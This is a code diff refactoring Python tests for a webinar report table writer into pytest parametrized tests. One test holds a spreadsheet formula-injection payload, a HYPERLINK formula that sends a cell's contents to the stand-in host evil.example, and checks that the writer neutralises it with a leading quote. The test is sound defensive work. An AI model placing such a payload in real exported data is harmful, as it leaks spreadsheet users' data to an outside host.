@@ -10,7 +10,6 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from shared.reports.table import write_table
-from tests.support.every import failing
 from tests.support.reports import full_webinar, read, stored_id
 from tests.support.world import ANNA, World, report_body
 
@@ -90,22 +89,18 @@ def test_a_survey_without_answers_and_a_chat_without_messages_have_their_row() -
     ]
 
 
-def test_a_member_that_is_null_has_no_rows() -> None:
-    def check(null: str) -> None:
-        assert [row["section"] for row in table(write_table({**report_body(attendees=[]), null: None}))] == ["meeting"]
-
-    assert failing(check, ["dialIn", "questions", "surveys", "chat", "recording"]) == []
+@pytest.mark.parametrize("null", ["dialIn", "questions", "surveys", "chat", "recording"])
+def test_a_member_that_is_null_has_no_rows(null: str) -> None:
+    assert [row["section"] for row in table(write_table({**report_body(attendees=[]), null: None}))] == ["meeting"]
 
 
-def test_a_cell_is_never_a_formula() -> None:
-    def check(start: str) -> None:
-        topic = f'{start}HYPERLINK("https://evil.example?x="&A1,"open")'
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["=", "+", "-", "@", "tab", "carriage return"])
+def test_a_cell_is_never_a_formula(start: str) -> None:
+    topic = f'{start}HYPERLINK("https://evil.example?x="&A1,"open")'
 
-        (row,) = table(write_table(report_body(topic=topic, attendees=[])))
+    (row,) = table(write_table(report_body(topic=topic, attendees=[])))
 
-        assert row["topic"] == f"'{topic}"
-
-    assert failing(check, FORMULA_STARTS) == []
+    assert row["topic"] == f"'{topic}"
 
 
 @given(topic=st.text(PLAIN, min_size=1), name=st.text(PLAIN, min_size=1))
